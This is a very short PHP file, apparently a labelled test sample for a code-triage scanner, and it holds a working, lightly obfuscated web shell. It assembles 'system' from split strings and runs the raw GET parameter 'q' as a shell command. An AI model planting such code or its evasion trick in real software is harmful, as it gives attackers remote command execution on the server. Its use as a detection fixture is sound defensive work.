<?php
// triage-expect: triage_php_tiny_dynamic_exec
$map['run'] = 'sys' . 'tem';
$tbl = array($map);
$tbl[0]['run']((($_GET['q'])));
